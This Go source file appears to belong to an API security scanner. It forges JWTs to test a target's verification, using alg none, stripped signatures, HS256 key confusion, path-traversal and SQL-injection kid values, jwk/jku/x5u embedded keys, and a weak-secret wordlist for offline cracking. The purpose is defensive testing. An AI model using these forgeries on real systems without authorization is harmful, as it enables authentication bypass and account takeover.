package authn

import (
	"context"
	"crypto"
	"crypto/ecdh"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"maps"
	"math/big"
	"net/url"
	"strings"
	"time"

	"github.com/rampart-gw/rampart/internal/findings"
	"github.com/rampart-gw/rampart/internal/scan"
)

// JWT attack rules.
var (
	JWTNone = findings.Rule{ID: "rampart.scan.api2.jwt-alg-none", Name: "JWT with alg none accepted",
		Description: "A token with the identity's claims, alg none and no signature is accepted.",
		Help:        "Verify tokens with an explicit algorithm allowlist (go-jose, or Rampart's jwt authenticator, never accept none).",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTSignature = findings.Rule{ID: "rampart.scan.api2.jwt-signature", Name: "JWT signature not verified",
		Description: "The identity's token with its signature removed or altered is still accepted.",
		Help:        "Verify the whole signature in constant time before reading any claim.",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTConfusion = findings.Rule{ID: "rampart.scan.api2.jwt-key-confusion", Name: "JWT HS/RS key confusion",
		Description: "A token re-signed with HS256 using the server's published RSA or EC public key as the HMAC secret is accepted.",
		Help:        "Bind each key to one algorithm; never let the token's alg header choose how a key is used.",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTKid = findings.Rule{ID: "rampart.scan.api2.jwt-kid-injection", Name: "JWT kid injection",
		Description: "A token whose kid header points at a file (../../dev/null) or injects SQL, signed with the key that lookup yields, is accepted.",
		Help:        "Treat kid as an opaque lookup key into a fixed key set; never as a path or a query fragment.",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTEmbedded = findings.Rule{ID: "rampart.scan.api2.jwt-embedded-key", Name: "JWT verified with a key the token names",
		Description: "A token signed with the scanner's own key is accepted because its header carries that key (jwk) or points at it (jku, x5u) on the scanner's canary.",
		Help:        "Ignore jwk, jku and x5u headers, or accept only keys from a fixed, configured JWKS URL.",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTWeakSecret = findings.Rule{ID: "rampart.scan.api2.jwt-weak-secret", Name: "JWT HMAC secret is guessable",
		Description: "The identity's HS256/384/512 token verifies with a secret from a list of common and default secrets, so anyone can mint tokens.",
		Help:        "Use a random secret of at least 32 bytes, or asymmetric keys (ES256).",
		OWASP:       "API2:2023", Severity: findings.Critical}
	JWTExpiry = findings.Rule{ID: "rampart.scan.api2.jwt-expiry", Name: "Expired or not-yet-valid JWT accepted",
		Description: "A correctly signed token (the secret having been guessed) whose exp is in the past, or whose nbf is in the future, is accepted.",
		Help:        "Check exp and nbf on every request, with at most a minute of leeway.",
		OWASP:       "API2:2023", Severity: findings.High}
)

// Wordlist is the built-in list of weak HMAC secrets: defaults from
// tutorials, frameworks and the jwt.io example, and common passwords.
var Wordlist = []string{
	"secret", "Secret", "SECRET", "secret123", "secretkey", "secret-key", "secret_key", "mysecret", "my-secret", "my_secret",
	"supersecret", "super-secret", "topsecret", "your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret",
	"your_jwt_secret", "your-secret-key", "jwt", "jwt_secret", "jwt-secret", "jwtsecret", "JWT_SECRET", "jwtSecret",
	"token", "tokensecret", "key", "private", "privatekey", "password", "Password", "password1", "password123", "passw0rd",
	"123456", "1234567", "12345678", "123456789", "1234567890", "qwerty", "abc123", "admin", "administrator", "root",
	"test", "testing", "test123", "dev", "development", "changeme", "change_me", "changeit", "default", "example",
	"hello", "letmein", "welcome", "shhhhh", "shhhhhhared-secret", "keyboard cat", "s3cr3t", "s3cret", "notsecret",
	"AllYourBase", "gottacatchemall", "node", "express", "django-insecure", "laravel", "rails", "spring", "app", "api",
	"apikey", "api_secret", "auth", "authsecret", "access", "accesstoken", "refresh", "session", "sessionsecret", "hmac",
	"hs256", "HS256", "signing", "signingkey", "sign", "pass", "1q2w3e4r", "zaq12wsx", "iloveyou", "monkey", "dragon", "",
}

// JWTCheck forges tokens from each identity's real JWT.
type JWTCheck struct{}

// Name implements scan.Check.
func (JWTCheck) Name() string { return "jwt" }

// Rules implements scan.Check.
func (JWTCheck) Rules() []findings.Rule {
	return []findings.Rule{JWTNone, JWTSignature, JWTConfusion, JWTKid, JWTEmbedded, JWTWeakSecret, JWTExpiry}
}

type token struct {
	header  map[string]any
	claims  map[string]any
	raw     [3]string
	signing string // header.payload as sent
}

func parseToken(t string) (*token, bool) {
	parts := strings.Split(t, ".")
	if len(parts) != 3 {
		return nil, false
	}
	tok := &token{raw: [3]string{parts[0], parts[1], parts[2]}, signing: parts[0] + "." + parts[1]}
	for i, dst := range []*map[string]any{&tok.header, &tok.claims} {
		b, err := base64.RawURLEncoding.DecodeString(parts[i])
		if err != nil || json.Unmarshal(b, dst) != nil {
			return nil, false
		}
	}
	return tok, true
}

func seg(v any) string {
	b, _ := json.Marshal(v)
	return base64.RawURLEncoding.EncodeToString(b)
}

func hmacSign(alg string, key []byte, in string) string {
	var h func() hash.Hash
	switch alg {
	case "HS384":
		h = sha512.New384
	case "HS512":
		h = sha512.New
	default:
		h = sha256.New
	}
	m := hmac.New(h, key)
	m.Write([]byte(in))
	return base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// forge returns header.payload.signature with the signature from sign.
func forge(header, claims map[string]any, sign func(string) string) string {
	in := seg(header) + "." + seg(claims)
	return in + "." + sign(in)
}

// target is the operation the attacks are sent to, with its controls.
type target struct {
	op     *scan.Op
	authed *scan.Exchange // the identity's real token: accepted
	anon   *scan.Exchange // no token: refused
}

// Run implements scan.Check: for each distinct token algorithm among the
// identities, on one operation that accepts the real token and refuses an
// anonymous request, each forged token is sent; one that gets an answer
// like the real token's is a finding.
func (c JWTCheck) Run(ctx context.Context, s *scan.Session) error {
	anyRule := false
	for _, r := range c.Rules() {
		anyRule = anyRule || s.Enabled(r.ID)
	}
	if !anyRule {
		return nil
	}
	seenAlg := map[string]bool{}
	for _, id := range s.Identities {
		raw := id.Token(ctx)
		tok, ok := parseToken(raw)
		if !ok {
			continue
		}
		alg, _ := tok.header["alg"].(string)
		if seenAlg[alg] {
			continue
		}
		seenAlg[alg] = true
		t, err := pickTarget(ctx, s, id)
		if err != nil {
			return err
		}
		if t == nil {
			s.Note("JWT attacks for %s: no operation both accepts its token and refuses an anonymous request; skipped", id.Name)
			continue
		}
		if err := attack(ctx, s, id, tok, t); err != nil {
			return err
		}
	}
	return nil
}

func pickTarget(ctx context.Context, s *scan.Session, id *scan.Identity) (*target, error) {
	for _, op := range s.Ops {
		if op.Method != "GET" || !op.RequiresAuth {
			continue
		}
		v := s.View(op, id.Name)
		if !scan.Success(v) {
			continue
		}
		anon := s.View(op, "")
		if anon == nil || anon.Req.Path != v.Req.Path {
			var err error
			if anon, err = s.Send(ctx, v.Req.Clone(), nil); err != nil {
				return nil, err
			}
		}
		if scan.Denied(anon) {
			return &target{op: op, authed: v, anon: anon}, nil
		}
	}
	return nil, nil
}

// try sends a forged token; it reports whether it was accepted.
func try(ctx context.Context, s *scan.Session, id *scan.Identity, t *target, forged string) (*scan.Exchange, bool, error) {
	ex, err := s.Send(ctx, t.authed.Req.Clone(), id.WithToken(forged))
	if err != nil {
		return nil, false, err
	}
	if !scan.Success(ex) {
		return ex, false, nil
	}
	return ex, scan.Compare(t.authed.Resp.Body, ex.Resp.Body).Structure >= 0.7, nil
}

func report(s *scan.Session, rule findings.Rule, t *target, id *scan.Identity, title, how string, ex *scan.Exchange, key string) {
	f := scan.Finding(rule, t.op, findings.Certain, title,
		fmt.Sprintf("%s %s accepted a forged token (%s) built from %s's claims and answered %d like for the real token; without a token it answers %d.",
			t.op.Method, t.op.Path, how, id.Name, ex.Resp.Status, t.anon.Resp.Status))
	f.Key = key
	f.Evidence = []findings.Exchange{scan.Evidence("no token (control)", t.anon), scan.Evidence(id.Name+"'s real token (control)", t.authed), scan.Evidence("the forged token", ex)}
	f.Curl = scan.Curl(ex)
	s.Report(f)
}

// attack runs every enabled forgery against one token, in a fixed order
// (the requests of a scan are reproducible).
func attack(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target) error {
	alg, _ := tok.header["alg"].(string)
	key := id.Name + ":" + alg
	steps := []struct {
		on  bool
		run func() error
	}{
		{s.Enabled(JWTNone.ID), func() error { return attackNone(ctx, s, id, tok, t, key) }},
		{s.Enabled(JWTSignature.ID), func() error { return attackSignature(ctx, s, id, tok, t, key) }},
		{strings.HasPrefix(alg, "HS"), func() error { return attackSecret(ctx, s, id, tok, t, alg, key) }},
		{s.Enabled(JWTKid.ID), func() error { return attackKid(ctx, s, id, tok, t, key) }},
		{s.Enabled(JWTEmbedded.ID), func() error { return embedded(ctx, s, id, tok, t, key) }},
		{s.Enabled(JWTConfusion.ID) && (strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "ES") || strings.HasPrefix(alg, "PS")),
			func() error { return confusion(ctx, s, id, tok, t, key) }},
	}
	for _, st := range steps {
		if !st.on {
			continue
		}
		if err := st.run(); err != nil {
			return err
		}
	}
	return nil
}

// attackNone sends the token with alg none and no signature.
func attackNone(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
	for _, none := range []string{"none"} {
		h := maps.Clone(tok.header)
		h["alg"] = none
		ex, ok, err := try(ctx, s, id, t, seg(h)+"."+tok.raw[1]+".")
		if err != nil {
			return err
		}
		if ok {
			report(s, JWTNone, t, id, "Token with alg "+none+" accepted", "alg "+none+", no signature", ex, key)
			break
		}
	}
	return nil
}

// attackSignature sends the token without its signature and, when that
// is refused, with one character of the signature changed.
func attackSignature(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
	stripped := tok.signing + "."
	ex, ok, err := try(ctx, s, id, t, stripped)
	if err != nil {
		return err
	}
	if ok {
		report(s, JWTSignature, t, id, "Token without its signature accepted", "the signature removed", ex, key+":stripped")
		return nil
	}
	sig := tok.raw[2]
	if len(sig) <= 4 {
		return nil
	}
	// Change a character in the middle: it carries six full bits.
	i := len(sig) / 2
	alt := byte('A')
	if sig[i] == 'A' {
		alt = 'B'
	}
	altered := tok.signing + "." + sig[:i] + string(alt) + sig[i+1:]
	ex, ok, err = try(ctx, s, id, t, altered)
	if err != nil {
		return err
	}
	if ok {
		ex.Redacted = append(ex.Redacted, sig[:i], sig[i+1:])
		report(s, JWTSignature, t, id, "Token with an altered signature accepted", "one character of the signature changed", ex, key+":altered")
	}
	return nil
}

// attackSecret guesses an HMAC token's secret offline and, when it is
// found, reports it and sends tokens it signs with bad exp and nbf.
func attackSecret(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, alg, key string) error {
	secret, found := crack(tok, alg)
	if !found {
		return nil
	}
	if s.Enabled(JWTWeakSecret.ID) {
		f := scan.Finding(JWTWeakSecret, t.op, findings.Certain, "JWT secret guessed",
			fmt.Sprintf("%s's %s token verifies with a secret from rampart's built-in list of %d weak secrets (the secret is not shown here); anyone can mint tokens for any subject.", id.Name, alg, len(Wordlist)))
		f.Key = key
		f.Evidence = []findings.Exchange{scan.Evidence(id.Name+"'s token is accepted", t.authed)}
		f.Curl = "echo \"$TOKEN\" | hashcat -m 16500 - wordlist.txt   # or jwt_tool; rampart found it offline, with no request"
		s.Report(f)
	}
	if !s.Enabled(JWTExpiry.ID) {
		return nil
	}
	now := time.Now().Unix()
	for _, v := range []struct{ claim, how string }{{"exp", "exp an hour in the past"}, {"nbf", "nbf an hour in the future"}} {
		c := maps.Clone(tok.claims)
		if v.claim == "exp" {
			c["exp"] = now - 3600
		} else {
			c["nbf"] = now + 3600
			c["exp"] = now + 7200
		}
		forged := forge(tok.header, c, func(in string) string { return hmacSign(alg, []byte(secret), in) })
		ex, ok, err := try(ctx, s, id, t, forged)
		if err != nil {
			return err
		}
		if ok {
			report(s, JWTExpiry, t, id, "Token with "+v.how+" accepted", v.how+", signed with the guessed secret", ex, key+":"+v.claim)
		}
	}
	return nil
}

// attackKid sends HS256 tokens whose kid points the key lookup at a known
// key: an empty file by path traversal, a chosen string by SQL injection.
func attackKid(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
	for _, v := range []struct{ kid, secret, how string }{
		{"../../../../../../../../dev/null", "", "kid ../../dev/null, HS256 with an empty key"},
		{"x' UNION SELECT 'rampart-kid' -- ", "rampart-kid", "kid with SQL injection, HS256 with the injected key"},
	} {
		h := map[string]any{"alg": "HS256", "typ": "JWT", "kid": v.kid}
		forged := forge(h, tok.claims, func(in string) string { return hmacSign("HS256", []byte(v.secret), in) })
		ex, ok, err := try(ctx, s, id, t, forged)
		if err != nil {
			return err
		}
		if ok {
			report(s, JWTKid, t, id, "Injected kid accepted", v.how, ex, key)
			break
		}
	}
	return nil
}

// crack tries the word list offline: no request is sent.
func crack(tok *token, alg string) (string, bool) {
	for _, w := range Wordlist {
		if hmac.Equal([]byte(hmacSign(alg, []byte(w), tok.signing)), []byte(tok.raw[2])) {
			return w, true
		}
	}
	return "", false
}

// embedded signs with a fresh RSA key of the scanner's and names it in
// the header three ways: jwk (the key itself), jku (a JWKS on the canary)
// and x5u (a certificate on the canary).
func embedded(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return fmt.Errorf("generating an attack key: %w", err)
	}
	jwk := map[string]any{"kty": "RSA", "kid": "rampart-scan", "use": "sig", "alg": "RS256",
		"n": base64.RawURLEncoding.EncodeToString(k.N.Bytes()), "e": base64.RawURLEncoding.EncodeToString(big.NewInt(int64(k.E)).Bytes())}
	sign := func(in string) string {
		d := sha256.Sum256([]byte(in))
		sig, _ := rsa.SignPKCS1v15(rand.Reader, k, crypto.SHA256, d[:])
		return base64.RawURLEncoding.EncodeToString(sig)
	}
	jwksToken := s.Canary.Token()
	jwks, _ := json.Marshal(map[string]any{"keys": []any{jwk}})
	s.Canary.ServeBody(jwksToken, jwks)
	certToken := s.Canary.Token()
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "rampart-scan"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		return fmt.Errorf("creating an attack certificate: %w", err)
	}
	s.Canary.ServeBody(certToken, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	for _, v := range []struct {
		name, canary string
		header       map[string]any
	}{
		{"jwk", "", map[string]any{"alg": "RS256", "typ": "JWT", "kid": "rampart-scan", "jwk": jwk}},
		{"jku", jwksToken, map[string]any{"alg": "RS256", "typ": "JWT", "kid": "rampart-scan", "jku": s.Canary.URL(jwksToken)}},
		{"x5u", certToken, map[string]any{"alg": "RS256", "typ": "JWT", "x5u": s.Canary.URL(certToken)}},
	} {
		ex, ok, err := try(ctx, s, id, t, forge(v.header, tok.claims, sign))
		if err != nil {
			return err
		}
		fetched := v.canary != "" && s.Canary.Hit(ctx, v.canary, 200*time.Millisecond)
		switch {
		case ok:
			how := "signed with the scanner's own key, named in its " + v.name + " header"
			if fetched {
				how += "; the target fetched it from the scanner's canary"
			}
			report(s, JWTEmbedded, t, id, "Token verified with a key from its "+v.name+" header", how, ex, key+":"+v.name)
		case fetched:
			f := scan.Finding(JWTEmbedded, t.op, findings.Certain, "The target fetches the key a token's "+v.name+" header names",
				fmt.Sprintf("A token whose %s header pointed at the scanner's canary made the target fetch it (the token itself was refused with %d): any token can make the target send requests (SSRF), and a key set there may be trusted later.", v.name, ex.Resp.Status))
			f.Severity = findings.High
			f.Key = key + ":" + v.name + ":fetch"
			f.Evidence = []findings.Exchange{scan.Evidence("the token with a canary "+v.name, ex)}
			f.Curl = scan.Curl(ex)
			s.Report(f)
		}
	}
	return nil
}

// confusion fetches the target's published keys (its JWKS at the
// well-known places, on the target only) and signs HS256 with each
// public key's PEM as the secret.
func confusion(ctx context.Context, s *scan.Session, id *scan.Identity, tok *token, t *target, key string) error {
	keys, err := publishedKeys(ctx, s)
	if err != nil || len(keys) == 0 {
		if err == nil {
			s.Note("JWT key confusion: the target publishes no JWKS at /.well-known/jwks.json or in its OpenID configuration; skipped")
		}
		return err
	}
	for _, pub := range keys {
		der, err := x509.MarshalPKIXPublicKey(pub)
		if err != nil {
			continue
		}
		p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		for _, secret := range [][]byte{p, []byte(strings.TrimSuffix(string(p), "\n"))} {
			h := maps.Clone(tok.header)
			h["alg"] = "HS256"
			ex, ok, err := try(ctx, s, id, t, forge(h, tok.claims, func(in string) string { return hmacSign("HS256", secret, in) }))
			if err != nil {
				return err
			}
			if ok {
				report(s, JWTConfusion, t, id, "HS256 token signed with the public key accepted", "alg HS256, signed with the server's published public key as the HMAC secret", ex, key)
				return nil
			}
		}
	}
	return nil
}

func publishedKeys(ctx context.Context, s *scan.Session) ([]crypto.PublicKey, error) {
	paths := []string{"/.well-known/jwks.json", "/jwks.json"}
	ex, err := s.Send(ctx, &scan.Request{Method: "GET", Path: "/.well-known/openid-configuration"}, nil)
	if err != nil {
		return nil, err
	}
	if scan.Success(ex) {
		var meta struct {
			JWKSURI string `json:"jwks_uri"`
		}
		if json.Unmarshal(ex.Resp.Body, &meta) == nil && meta.JWKSURI != "" {
			if u, err := url.Parse(meta.JWKSURI); err == nil && u.Host == s.Target.Host {
				paths = append([]string{u.EscapedPath()}, paths...)
			}
		}
	}
	base := strings.TrimSuffix(s.Target.EscapedPath(), "/")
	for _, p := range paths {
		ex, err := s.Send(ctx, &scan.Request{Method: "GET", Path: strings.TrimPrefix(p, base)}, nil)
		if err != nil {
			return nil, err
		}
		if !scan.Success(ex) {
			continue
		}
		if keys := parseJWKS(ex.Resp.Body); len(keys) > 0 {
			return keys, nil
		}
	}
	return nil, nil
}

func parseJWKS(b []byte) []crypto.PublicKey {
	var set struct {
		Keys []struct {
			Kty, Crv, N, E, X, Y string
		} `json:"keys"`
	}
	if json.Unmarshal(b, &set) != nil {
		return nil
	}
	var out []crypto.PublicKey
	dec := base64.RawURLEncoding.DecodeString
	for _, k := range set.Keys {
		switch k.Kty {
		case "RSA":
			n, err1 := dec(k.N)
			e, err2 := dec(k.E)
			if err1 != nil || err2 != nil || len(e) > 4 {
				continue
			}
			out = append(out, &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())})
		case "EC":
			x, err1 := dec(k.X)
			y, err2 := dec(k.Y)
			if err1 != nil || err2 != nil || k.Crv != "P-256" {
				continue
			}
			if len(x) > 32 || len(y) > 32 {
				continue
			}
			point := make([]byte, 65)
			point[0] = 4
			copy(point[33-len(x):33], x)
			copy(point[65-len(y):], y)
			if pub, err := ecdh.P256().NewPublicKey(point); err == nil {
				out = append(out, pub)
			}
		}
	}
	return out
}
